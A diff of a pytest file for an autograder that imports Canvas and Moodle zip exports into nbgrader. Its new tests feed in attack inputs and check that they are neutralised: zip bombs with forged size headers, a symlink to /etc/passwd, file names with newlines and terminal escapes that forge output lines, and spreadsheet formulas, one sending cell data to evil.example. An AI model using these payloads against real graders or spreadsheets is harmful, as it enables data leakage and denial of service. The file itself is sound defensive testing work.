@@ -2,16 +2,26 @@
 
 Real-shaped archives, built by Python's zipfile (the UTF-8 flag set, as Canvas
 writes them) and by Info-ZIP's `zip` (no UTF-8 flag, names as bytes), in Canvas's
-and Moodle's layouts: unicode and underscores in ids survive, the late marker and
+and Moodle's layouts: each student's id is the LMS's user id, her name (unicode and
+underscores kept) goes to the gradebook, the late marker and
 the time the zip records become nbgrader's timestamp (the gradebook then knows the
 submission is late), a resubmission replaces the earlier file, links and files
 no layout explains are listed with the reason, and release_feedback works after.
+
+Then the attacks of issue 24, each with a second variant: a zip bomb and sizes that
+lie, names too long to be files, names that forge lines, names that are formulas in
+the exported CSV, names that copy or contain a classmate's, and students who share a name.
 """
+import csv
 import datetime
+import io
 import os
 import subprocess
 import sys
+import time
+import tracemalloc
 import zipfile
+from pathlib import Path
 
 import nbformat
 import pytest
@@ -19,6 +29,8 @@ from nbgrader.api import Gradebook
 
 import helpers
 from autograder import collect as lms
+from autograder import course as courses
+from autograder import export
 
 pytestmark = pytest.mark.nbgrader
 
@@ -75,11 +87,15 @@ def _canvas_zip_by_info_zip(path):
                      links=[("mallory_1009_5009_softmax.ipynb", "/etc/passwd")])
 
 
+FORMULA = '=HYPERLINK("https:evil.example?q="&A1,"grade")'   # a Moodle full name (no "/": a folder)
+
+
 def _moodle_zip_by_info_zip(path):
     return _info_zip(path, {
         "Zoë Martin_2001_assignsubmission_file_/softmax.ipynb": _notebook(),
         "Li Hua_2002_assignsubmission_file_/softmax.ipynb": _notebook(WRONG),
         "Li Hua_2002_assignsubmission_file_/softmax-Copy1.ipynb": _notebook(),
+        f"{FORMULA}_2003_assignsubmission_file_/softmax.ipynb": _notebook(WRONG),
     })
 
 
@@ -112,29 +128,46 @@ def collected(tmp_path_factory):
     return root, run.stdout, moodle_run.stdout
 
 
-STUDENTS = {"alice", "jean_luc", "dave", "zoë", "müller", "李华", "zoëmartin", "lihua"}
+# {student id: the name the LMS wrote}: the id is the LMS's user (Canvas) or participant (Moodle) id.
+STUDENTS = {"canvas-1001": "alice", "canvas-1005": "jean_luc", "canvas-1004": "dave", "canvas-1006": "zoë",
+            "canvas-1008": "müller", "canvas-1007": "李华", "moodle-2001": "Zoë Martin", "moodle-2002": "Li Hua",
+            "moodle-2003": FORMULA}
 
 
 def test_everyone_is_collected_under_the_lms_id(collected):
     root, _, _ = collected
     submitted = root / "autograder" / "submitted"
-    assert {p.name for p in submitted.iterdir()} == STUDENTS
-    for student in STUDENTS - {"lihua"}:
+    assert {p.name for p in submitted.iterdir()} == set(STUDENTS)
+    for student in set(STUDENTS) - {"moodle-2002"}:
         assert sorted(p.name for p in (submitted / student / "01_softmax").iterdir()) == \
             ["softmax.ipynb", "submission_secret.txt", "timestamp.txt"], student
-    assert (submitted / "lihua" / "01_softmax" / "softmax-Copy1.ipynb").exists()
+    assert (submitted / "moodle-2002" / "01_softmax" / "softmax-Copy1.ipynb").exists()
+
+
+def test_the_lms_names_are_the_students_names_in_the_gradebook(collected):
+    root, _, _ = collected
+    with Gradebook(helpers.gradebook_url(root)) as gradebook:
+        assert {s.id: s.last_name for s in gradebook.students} == STUDENTS
+
+
+def _skipped(out):
+    """The lines listing the skipped files, after the line "skipped N file(s):"."""
+    lines = out.splitlines()
+    (start,) = [i for i, line in enumerate(lines) if line.startswith("skipped ")]
+    return lines[start], [line for line in lines[start + 1:] if line.startswith("  ")]
 
 
 def test_every_skipped_file_is_listed_with_its_reason(collected):
     _, out, moodle_out = collected
-    (skipped,) = [line for line in out.splitlines() if line.startswith("skipped")]
-    assert "skipped 4 file(s)" in skipped
-    assert "readme.txt (not a notebook)" in skipped
-    assert "softmax.ipynb (a name neither the Canvas nor the Moodle layout explains)" in skipped
-    assert "mallory_1009_5009_softmax.ipynb (a symbolic link)" in skipped
-    assert "dave_late_1004_5004_softmax.ipynb (superseded by resubmission 1)" in skipped
-    assert "marked late by the LMS: dave" in out
-    assert "lihua/softmax-Copy1.ipynb" in moodle_out
+    header, skipped = _skipped(out)
+    assert header == "skipped 4 file(s):"
+    assert sorted(skipped) == sorted([
+        "  readme.txt (not a notebook)",
+        "  softmax.ipynb (a name neither the Canvas nor the Moodle layout explains)",
+        "  mallory_1009_5009_softmax.ipynb (a symbolic link)",
+        "  dave_late_1004_5004_softmax.ipynb (superseded by resubmission 1)"])
+    assert "marked late by the LMS: canvas-1004" in out
+    assert "moodle-2002/softmax-Copy1.ipynb" in moodle_out
 
 
 @pytest.fixture(scope="module")
@@ -149,19 +182,19 @@ def graded(collected):
 
 def test_late_marker_becomes_a_timestamp_nbgrader_counts_late(graded):
     root, out = graded
-    stamp = (root / "autograder" / "submitted" / "dave" / "01_softmax" / "timestamp.txt").read_text()
+    stamp = (root / "autograder" / "submitted" / "canvas-1004" / "01_softmax" / "timestamp.txt").read_text()
     assert stamp == "2026-11-20 12:00:00.000000 UTC"
     assert f"01_softmax: {len(STUDENTS)} of {len(STUDENTS)} submissions graded" in out
     with Gradebook(helpers.gradebook_url(root)) as gradebook:
-        dave = gradebook.find_submission("01_softmax", "dave")
-        alice = gradebook.find_submission("01_softmax", "alice")
+        dave = gradebook.find_submission("01_softmax", "canvas-1004")
+        alice = gradebook.find_submission("01_softmax", "canvas-1001")
         assert dave.total_seconds_late == 36 * 3600 and alice.total_seconds_late == 0
         assert dave.score == 7.0                       # the resubmission, not the first file
 
 
 def test_grade_reports_the_extra_notebook(graded):
     _, out = graded
-    (line,) = [l for l in out.splitlines() if l.strip().startswith("lihua")]
+    (line,) = [l for l in out.splitlines() if l.strip().startswith("moodle-2002")]
     assert "extra notebook softmax-Copy1.ipynb is not graded" in line
 
 
@@ -196,3 +229,376 @@ def test_a_zip_with_no_submission_exits_non_zero(tmp_path):
                              "--course-root", str(root)], cwd=helpers.REPO, capture_output=True, text=True)
     assert result.returncode != 0 and "collected nothing for 01_softmax" in result.stderr
     assert "notes.txt (not a notebook)" in result.stderr
+
+
+# --------------------------------------------------------------------------- issue 24: the attacks
+HONEST = {"alice_1001_5001_softmax.ipynb": _notebook(), "bob_1002_5002_softmax.ipynb": _notebook(WRONG)}
+
+
+def _zip(path, entries, when=ON_TIME):
+    """A zip by Python's zipfile (the UTF-8 flag set, as Canvas writes them): {entry name: text}."""
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, text in entries.items():
+            archive.writestr(zipfile.ZipInfo(name, date_time=when), text)
+    return path
+
+
+def _collect(root, *archives):
+    """Collect in this process (to measure its memory): the text it prints."""
+    out = io.StringIO()
+    lms.collect(courses.course_at(root), "01_softmax", archives, out=out)
+    return out.getvalue()
+
+
+def _run(root, *archives):
+    """`python -m autograder collect 01_softmax ARCHIVE ...`, as an instructor runs it."""
+    return subprocess.run([sys.executable, "-m", "autograder", "collect", "01_softmax", *map(str, archives),
+                           "--course-root", str(root)], cwd=helpers.REPO, capture_output=True, text=True,
+                          timeout=300)
+
+
+def _students(root):
+    return sorted(p.name for p in courses.course_at(root).submitted.iterdir())
+
+
+def _names(root):
+    """{student id: last_name} in the course's gradebook."""
+    with Gradebook(helpers.gradebook_url(root)) as gradebook:
+        return {student.id: student.last_name for student in gradebook.students}
+
+
+def _zeros(archive, name, size=200 << 20):
+    """Add the entry ``name`` to an open zip: ``size`` zero bytes, deflated (200 MiB: about 200 KiB)."""
+    info = zipfile.ZipInfo(name, date_time=ON_TIME)
+    info.compress_type = zipfile.ZIP_DEFLATED
+    with archive.open(info, "w") as entry:
+        for _ in range(size >> 20):
+            entry.write(bytes(1 << 20))
+
+
+def _declare_size(path, name, size):
+    """Make the archive lie: the local header and the central directory declare ``size`` bytes for ``name``."""
+    data = bytearray(path.read_bytes())
+    with zipfile.ZipFile(path) as archive:
+        offset = archive.getinfo(name).header_offset
+    data[offset + 22:offset + 26] = size.to_bytes(4, "little")           # the local file header
+    at = data.find(b"PK\x01\x02")
+    while at >= 0:                                                       # the central directory's record
+        length = int.from_bytes(data[at + 28:at + 30], "little")
+        if data[at + 46:at + 46 + length] == name.encode():
+            data[at + 24:at + 28] = size.to_bytes(4, "little")
+        at = data.find(b"PK\x01\x02", at + 1)
+    path.write_bytes(data)
+
+
+def _peak(function):
+    """(what ``function`` returns, the peak of the memory Python allocated while it ran)."""
+    tracemalloc.start()
+    try:
+        return function(), tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+
+def test_a_zip_bomb_costs_no_memory_and_stops_no_one(tmp_path):
+    """The red team's entry of 1 MB inflating to 0.9 GB cost collect 1.76 GiB.  Here one of 200 KiB
+    inflating to 200 MiB is refused by its declared size, one whose headers declare 1000 bytes is
+    refused once read (its checksum fails), an honest 12 MiB notebook is streamed to disk, not held
+    in memory, and the others are collected."""
+    root = helpers.course(tmp_path)
+    large = helpers.submission("01_softmax", CORRECT.read_text())
+    large.cells.append(nbformat.v4.new_markdown_cell("x" * (12 << 20)))
+    large = nbformat.writes(large)
+    archive = tmp_path / "canvas.zip"
+    with zipfile.ZipFile(archive, "w") as opened:
+        for name, text in {**HONEST, "carol_1003_5003_softmax.ipynb": large}.items():
+            opened.writestr(zipfile.ZipInfo(name, date_time=ON_TIME), text, zipfile.ZIP_DEFLATED)
+        _zeros(opened, "mallory_1009_5009_softmax.ipynb")
+        _zeros(opened, "trudy_1010_5010_softmax.ipynb")
+    _declare_size(archive, "trudy_1010_5010_softmax.ipynb", 1000)
+    assert archive.stat().st_size < 2 << 20
+    with Gradebook(helpers.gradebook_url(root)):   # nbgrader loaded and its gradebook made before measuring
+        pass
+    out, peak = _peak(lambda: _collect(root, archive))
+    assert peak < 4 << 20, f"{peak / 2**20:.1f} MiB"   # a third of the 12 MiB notebook
+    assert _students(root) == ["canvas-1001", "canvas-1002", "canvas-1003"]
+    assert helpers.submitted(root, "canvas-1003").read_text() == large
+    _, skipped = _skipped(out)
+    assert skipped[0] == (f"  mallory_1009_5009_softmax.ipynb ({200 << 20} bytes once inflated, more than the "
+                          "16 MiB a notebook may have)")
+    assert skipped[1].startswith("  trudy_1010_5010_softmax.ipynb (cannot be read from the archive "
+                                 "(BadZipFile: Bad CRC-32"), skipped
+    assert not list(courses.course_at(root).submitted.rglob(".collecting-*"))
+
+
+def test_the_inflated_bytes_are_bounded_whatever_the_entry_declares(tmp_path):
+    """The second line of defence: an entry is copied in chunks and stopped once past the bound,
+    whatever size it declares (here: its true 200 MiB, the declared check bypassed)."""
+    archive = tmp_path / "bomb.zip"
+    with zipfile.ZipFile(archive, "w") as opened:
+        _zeros(opened, "mallory_1009_5009_softmax.ipynb")
+    part = tmp_path / "part"
+    with zipfile.ZipFile(archive) as opened:
+        info = opened.infolist()[0]
+        refused, peak = _peak(lambda: pytest.raises(lms._Unreadable, lms._copy_entry, opened, info, part))
+    assert "inflates past the 16 MiB a notebook may have (declared 209715200 bytes)" in str(refused.value)
+    assert peak < 4 << 20, f"{peak / 2**20:.1f} MiB"
+    assert part.stat().st_size <= lms.MAX_NOTEBOOK_BYTES
+
+
+def test_many_tiny_entries_and_many_notebooks_are_bounded(tmp_path):
+    """20,000 empty files and 31 notebooks from one learner: each listed, her notebooks beyond the
+    bound skipped (the exercise's kept first), her classmates collected, in seconds."""
+    root = helpers.course(tmp_path)
+    entries = {**HONEST, **{f"mallory_1009_5009_note{i:05}.txt": "" for i in range(20_000)},
+               **{f"mallory_1009_5009_copy{i:02}.ipynb": "{}" for i in range(30)},
+               "mallory_1009_5009_softmax.ipynb": _notebook(WRONG)}
+    archive = _zip(tmp_path / "canvas.zip", entries)
+    started = time.monotonic()
+    out = _collect(root, archive)
+    assert time.monotonic() - started < 60
+    kept = sorted(p.name for p in helpers.submitted(root, "canvas-1009").parent.glob("*.ipynb"))
+    assert len(kept) == lms.MAX_NOTEBOOKS_PER_STUDENT == 8 and "softmax.ipynb" in kept
+    header, skipped = _skipped(out)
+    assert header == f"skipped {20_000 + 31 - 8} file(s):" and len(skipped) == 20_000 + 31 - 8
+    assert sum(line.endswith("(more than 8 notebooks from canvas-1009)") for line in skipped) == 31 - 8
+    assert _students(root) == ["canvas-1001", "canvas-1002", "canvas-1009"]
+
+
+def test_an_archive_with_too_large_a_directory_is_refused_before_zipfile_reads_it(tmp_path, monkeypatch):
+    root = helpers.course(tmp_path)
+    large = _zip(tmp_path / "large.zip", {**{f"x{i:05}.txt": "" for i in range(2000)},
+                                          "carol_1003_5003_softmax.ipynb": _notebook()})
+    canvas = _zip(tmp_path / "canvas.zip", HONEST)
+    monkeypatch.setattr(lms, "MAX_DIRECTORY_BYTES", 64 << 10)
+    opened, real = [], zipfile.ZipFile.__init__
+    monkeypatch.setattr(zipfile.ZipFile, "__init__", lambda self, file, *a, **k: (
+        opened.append(Path(getattr(file, "name", file))), real(self, file, *a, **k))[1])
+    out = _collect(root, large, canvas)
+    assert large not in opened and canvas in opened
+    _, skipped = _skipped(out)
+    assert skipped[0].startswith("  large.zip (not a readable zip (ValueError: a directory of 1")
+    assert skipped[0].endswith(f"bytes, more than the {64 << 10} an LMS's export needs))")
+    assert _students(root) == ["canvas-1001", "canvas-1002"]
+
+
+def test_a_270_character_name_stops_no_one(tmp_path):
+    """A 270-character upload name (ENAMETOOLONG) stopped collect, and the students sorted after her
+    were never imported.  Now her file is skipped with its reason and everyone else is collected; a
+    Moodle full name that long is no folder name any more, only a name, bounded in the gradebook."""
+    root = helpers.course(tmp_path)
+    long_file = "e" * 270 + ".ipynb"
+    canvas = _zip(tmp_path / "canvas.zip", {f"aaron_1000_5000_{long_file}": _notebook(), **HONEST})
+    moodle = _zip(tmp_path / "moodle.zip", {"M" * 270 + "_2012_assignsubmission_file_/softmax.ipynb": _notebook()})
+    result = _run(root, canvas, moodle)
+    assert result.returncode == 0, result.stderr
+    assert _students(root) == ["canvas-1001", "canvas-1002", "moodle-2012"]
+    assert f"  aaron_1000_5000_{long_file} (a file name longer than 255 bytes)" in result.stdout.splitlines()
+    assert _names(root)["moodle-2012"] == "M" * 128
+
+
+def test_a_student_who_cannot_be_written_stops_no_one_and_an_unreadable_file_keeps_the_earlier_import(tmp_path):
+    root = helpers.course(tmp_path)
+    assert _run(root, _zip(tmp_path / "first.zip", HONEST)).returncode == 0
+    earlier = helpers.submitted(root, "canvas-1002").read_bytes()
+    (courses.course_at(root).submitted / "canvas-1003").write_text("a file where carol's folder goes")
+    second = _zip(tmp_path / "second.zip", {**HONEST, "carol_1003_5003_softmax.ipynb": _notebook()})
+    with zipfile.ZipFile(second) as opened:   # bob's new file: one byte changed, its checksum fails
+        info = opened.getinfo("bob_1002_5002_softmax.ipynb")
+        start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
+    data = bytearray(second.read_bytes())
+    data[start + 100] ^= 0xFF
+    second.write_bytes(data)
+    result = _run(root, second)
+    assert result.returncode == 0, result.stderr
+    lines = result.stdout.splitlines()
+    assert lines[0].startswith("collected 1 submission(s) of 01_softmax")
+    assert "  carol_1003_5003_softmax.ipynb (canvas-1003 not collected (NotADirectoryError: Not a directory))" in lines
+    assert any(line.startswith("  bob_1002_5002_softmax.ipynb (cannot be read from the archive") for line in lines)
+    assert helpers.submitted(root, "canvas-1002").read_bytes() == earlier    # bob's earlier import, whole
+    assert helpers.submitted(root, "canvas-1001").read_text() == HONEST["alice_1001_5001_softmax.ipynb"]
+
+
+def test_a_name_cannot_forge_a_line_of_the_summary(tmp_path):
+    """Upload names were printed as they are: a newline and an escape sequence forged the line
+    "collected ... nothing skipped".  Now every name is quoted, every line made safe."""
+    root = helpers.course(tmp_path)
+    forged = "collected 30 submission(s) of 01_softmax, nothing skipped"
+    archive = _zip(tmp_path / "canvas.zip", {
+        **HONEST,
+        f"mallory_1009_5009_x\n{forged}\x1b[2K.ipynb": _notebook(),     # an extra notebook of hers
+        f"\r{forged}\n\x1b]0;owned\x07.txt": "",                          # no one's: skipped
+    })
+    result = _run(root, archive)
+    assert result.returncode == 0, result.stderr
+    lines = result.stdout.splitlines()
+    assert lines[0].startswith("collected 3 submission(s) of 01_softmax")
+    assert not [line for line in lines if line.startswith("collected 30")]
+    assert not set("\x1b\x07\r") & set(result.stdout)
+    assert f"canvas-1009/'x\\n{forged}\\x1b[2K.ipynb'" in lines[1]
+    assert f"  '\\r{forged}\\n\\x1b]0;owned\\x07.txt' (not a notebook)" in lines
+
+
+def test_invisible_characters_in_names_are_shown_not_obeyed(tmp_path):
+    """A right-to-left override and a zero-width joiner: written out, in the terminal and the gradebook."""
+    root = helpers.course(tmp_path)
+    archive = _zip(tmp_path / "canvas.zip", {**HONEST, "eve\u202e_1013_5013_softmax\u200d.ipynb": _notebook(),
+                                             "\u202egnp.ipynb": ""})
+    result = _run(root, archive)
+    assert result.returncode == 0, result.stderr
+    assert "\u202e" not in result.stdout and "\u200d" not in result.stdout
+    assert "canvas-1013/'softmax\\u200d.ipynb'" in result.stdout
+    assert "  '\\u202egnp.ipynb' (a name neither the Canvas nor the Moodle layout explains)" in result.stdout
+    assert _names(root)["canvas-1013"] == "eve\ufffd"
+
+
+def _export(root, tmp_path, plugin="autograder.export.SpreadsheetSafeCsvExportPlugin"):
+    """`nbgrader export` with the course's configuration and ``plugin`` (what nbgrader_config.py sets):
+    the rows of the CSV."""
+    exported = tmp_path / "grades.csv"
+    helpers.nbgrader("export", "--to", str(exported), f"--ExportApp.plugin_class={plugin}", root=root)
+    with open(exported, newline="", encoding="utf-8") as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_a_formula_for_a_name_is_text_in_the_exported_csv(collected, tmp_path):
+    """A Moodle full name =HYPERLINK(...) became a student id, then a formula cell of `nbgrader export`.
+    Now it is the student's name, and its cell starts with a quote."""
+    root, _, _ = collected
+    rows = {row["student_id"]: row for row in _export(root, tmp_path)}
+    assert set(rows) == set(STUDENTS)
+    assert rows["moodle-2003"]["last_name"] == "'" + FORMULA
+    assert rows["canvas-1007"]["last_name"] == "李华"
+
+
+def test_no_text_in_the_gradebook_makes_a_formula_a_column_or_a_row_of_the_csv(tmp_path):
+    """Ids and names from anywhere (a hand-added student, another collector): formulas are quoted,
+    a comma stays in its cell, a line break cannot write a row; nbgrader's own plugin fails this."""
+    root = helpers.course(tmp_path)
+    forged_row = "x\n01_softmax,,,canvas-1666,,,,10.0,0.0,10.0,10.0"
+    with Gradebook(helpers.gradebook_url(root)) as gradebook:
+        gradebook.update_or_create_assignment("01_softmax", duedate=DUE)
+        gradebook.update_or_create_student('=HYPERLINK("http://evil.example/","x")', last_name="@SUM(A1)",
+                                           first_name="+1", email="-1+2")
+        gradebook.update_or_create_student("canvas-1002", last_name=forged_row, first_name="Smith, John",
+                                           email="\tx")
+    rows = _export(root, tmp_path)
+    assert [row["student_id"] for row in rows] == ['\'=HYPERLINK("http://evil.example/","x")', "canvas-1002"]
+    assert [(row["last_name"], row["first_name"], row["email"]) for row in rows] == [
+        ("'@SUM(A1)", "'+1", "'-1+2"), (forged_row, "Smith, John", "'\tx")]
+    assert all(float(row["score"]) == 0.0 and row["assignment"] == "01_softmax" for row in rows)
+    stock = _export(root, tmp_path, plugin="nbgrader.plugins.export.CsvExportPlugin")
+    assert len(stock) != 2 or stock[0]["student_id"].startswith("=")
+
+
+@pytest.mark.filterwarnings("ignore:Object of type:sqlalchemy.exc.SAWarning")   # nbgrader's own autoflush
+def test_plain_grades_export_to_the_same_bytes_as_nbgraders_csv(tmp_path):
+    """Only what needs it changes: without a formula, a comma or a line break, nbgrader's file, byte for byte."""
+    from nbgrader.plugins.export import CsvExportPlugin
+    root = helpers.course(tmp_path)
+    with Gradebook(helpers.gradebook_url(root)) as gradebook:
+        gradebook.update_or_create_assignment("01_softmax", duedate=DUE)
+        gradebook.update_or_create_assignment("02_attention_weights")
+        gradebook.update_or_create_student("canvas-1001", last_name="Zoë Martin", first_name="", email="z@x.org")
+        gradebook.update_or_create_student("moodle-2002")
+        gradebook.add_submission("01_softmax", "moodle-2002", timestamp=datetime.datetime(*LATE))
+        for plugin, name in [(CsvExportPlugin, "stock.csv"), (export.SpreadsheetSafeCsvExportPlugin, "safe.csv")]:
+            plugin(to=str(tmp_path / name), assignment=["01_softmax"]).export(gradebook)
+    stock, safe_csv = (tmp_path / "stock.csv").read_bytes(), (tmp_path / "safe.csv").read_bytes()
+    assert stock == safe_csv and stock.count(b"\n") == 3 and b"2026-11-20 12:00:00" in stock
+
+
+def test_numbers_stay_numbers_and_only_text_is_prefixed():
+    """A score is never negative in nbgrader; a negative number is a number, not a formula, and is
+    written as nbgrader writes it.  Text that starts like a formula (or a sign) is prefixed."""
+    row = {**dict.fromkeys(export.COLUMNS), "assignment": "-01", "student_id": "@x", "last_name": "O'Brien",
+           "first_name": "=1", "raw_score": -1.5, "late_submission_penalty": -0.5, "score": 0.0, "max_score": 10.0}
+    cells = dict(zip(export.COLUMNS, export.cells(row)))
+    assert (cells["raw_score"], cells["late_submission_penalty"], cells["score"]) == ("-1.5", "-0.5", "0.0")
+    assert (cells["assignment"], cells["student_id"], cells["first_name"]) == ("'-01", "'@x", "'=1")
+    assert (cells["last_name"], cells["email"], cells["timestamp"]) == ("O'Brien", "", "")
+
+
+def test_a_learner_renaming_herself_after_a_classmate_changes_nothing_for_the_classmate(tmp_path):
+    """Renaming herself "ALICE  SMITH" made a learner's id collide with Alice's, and both were refused.
+    Now each is her participant id: both are collected, Alice with her own notebook."""
+    root = helpers.course(tmp_path)
+    alice, folder = _notebook(), "_assignsubmission_file_/softmax.ipynb"
+    archive = _zip(tmp_path / "moodle.zip", {f"Alice Smith_2020{folder}": alice,
+                                             f"ALICE  SMITH_2021{folder}": _notebook(WRONG)})
+    result = _run(root, archive)
+    assert result.returncode == 0, result.stderr
+    assert _students(root) == ["moodle-2020", "moodle-2021"]
+    assert helpers.submitted(root, "moodle-2020").read_text() == alice
+    assert _names(root) == {"moodle-2020": "Alice Smith", "moodle-2021": "ALICE SMITH"}
+
+
+@pytest.mark.parametrize("entry", [
+    "mallory_1001_5001_1666_7666_softmax.ipynb",     # her Canvas name: "mallory 1001! 5001"
+    "mallory_1666_7667_x_1001_5001_softmax.ipynb",   # her file: x_1001_5001_softmax.ipynb
+    "mallory_1001_5001_1666_7668_.ipynb",            # that name, and a file named ".ipynb"
+], ids=["in-the-name", "in-the-file-name", "nothing-after-her-own-ids"])
+def test_a_classmates_ids_in_a_name_take_nothing_from_her(tmp_path, entry):
+    """Canvas writes "_<user id>_<attachment id>_" after the name: a learner who writes Alice's ids
+    into her name or file name makes her own entry unreadable, never Alice's."""
+    root = helpers.course(tmp_path)
+    result = _run(root, _zip(tmp_path / "canvas.zip", {**HONEST, entry: _notebook(WRONG)}))
+    assert result.returncode == 0, result.stderr
+    assert _students(root) == ["canvas-1001", "canvas-1002"]
+    assert helpers.submitted(root, "canvas-1001").read_text() == HONEST["alice_1001_5001_softmax.ipynb"]
+    (line,) = [line for line in result.stdout.splitlines() if line.startswith(f"  {entry} (a name that reads as ")]
+    assert "canvas-1001" in line and "canvas-1666" in line and line.endswith("whose it is cannot be told)")
+
+
+def test_two_students_with_one_name_are_two_students(tmp_path):
+    """Two real students with one full name were both dropped, with exit status 0."""
+    root = helpers.course(tmp_path)
+    moodle = _zip(tmp_path / "moodle.zip", {"Li Hua_2002_assignsubmission_file_/softmax.ipynb": _notebook(),
+                                            "Li Hua_2004_assignsubmission_file_/softmax.ipynb": _notebook(WRONG)})
+    canvas = _zip(tmp_path / "canvas.zip", {"smithjohn_1020_5020_softmax.ipynb": _notebook(WRONG),
+                                            "smithjohn_1021_5021_softmax.ipynb": _notebook()})
+    result = _run(root, moodle, canvas)
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.startswith("collected 4 submission(s)") and "skipped" not in result.stdout
+    assert _names(root) == {"moodle-2002": "Li Hua", "moodle-2004": "Li Hua",
+                            "canvas-1020": "smithjohn", "canvas-1021": "smithjohn"}
+    assert helpers.submitted(root, "moodle-2002").read_text() == _notebook()
+    assert helpers.submitted(root, "canvas-1021").read_text() == _notebook()
+
+
+def test_one_id_for_two_names_in_one_archive_is_an_error_that_names_both(tmp_path):
+    """No LMS writes that (a hand-made or damaged archive): neither is collected, everyone else is,
+    and the run exits non-zero with one line naming both."""
+    root = helpers.course(tmp_path)
+    archive = _zip(tmp_path / "moodle.zip", {
+        "Alice Smith_2030_assignsubmission_file_/softmax.ipynb": _notebook(),
+        "Eve Jones_2030_assignsubmission_file_/softmax.ipynb": _notebook(WRONG),
+        "Bob Brown_2031_assignsubmission_file_/softmax.ipynb": _notebook()})
+    result = _run(root, archive)
+    assert result.returncode != 0 and len(result.stderr.splitlines()) == 1, result.stderr
+    assert "moodle-2030: 'Alice Smith' ('Alice Smith_2030_assignsubmission_file_/softmax.ipynb' in moodle.zip) " \
+           "and 'Eve Jones' (" in result.stderr
+    assert result.stdout.startswith("collected 1 submission(s)")
+    assert _students(root) == ["moodle-2031"]
+
+
+def test_one_id_in_two_exports_is_one_student_renamed(tmp_path):
+    root = helpers.course(tmp_path)
+    older = _zip(tmp_path / "october.zip", {"Zoë Martin_2001_assignsubmission_file_/softmax.ipynb": _notebook(WRONG)})
+    newer = _zip(tmp_path / "november.zip", {"Zoë Martin-Dupont_2001_assignsubmission_file_/softmax.ipynb":
+                                             _notebook()}, when=LATE)
+    result = _run(root, older, newer)
+    assert result.returncode == 0, result.stderr
+    assert _students(root) == ["moodle-2001"] and _names(root) == {"moodle-2001": "Zoë Martin-Dupont"}
+    assert helpers.submitted(root, "moodle-2001").read_text() == _notebook()
+
+
+def test_folders_of_collects_that_used_names_as_ids_are_pointed_out(tmp_path):
+    """Collects before issue 24 named the folder after the student's name: both would be graded."""
+    root = helpers.course(tmp_path)
+    helpers.write(helpers.submission("01_softmax", CORRECT.read_text()), helpers.submitted(root, "alice"))
+    result = _run(root, _zip(tmp_path / "canvas.zip", HONEST))
+    assert result.returncode == 0, result.stderr
+    assert "from collects before student ids came from the LMS (both would be graded: remove the old ones): " \
+           "alice (now canvas-1001)" in result.stdout
+    assert helpers.submitted(root, "alice").exists()                # the instructor's to remove
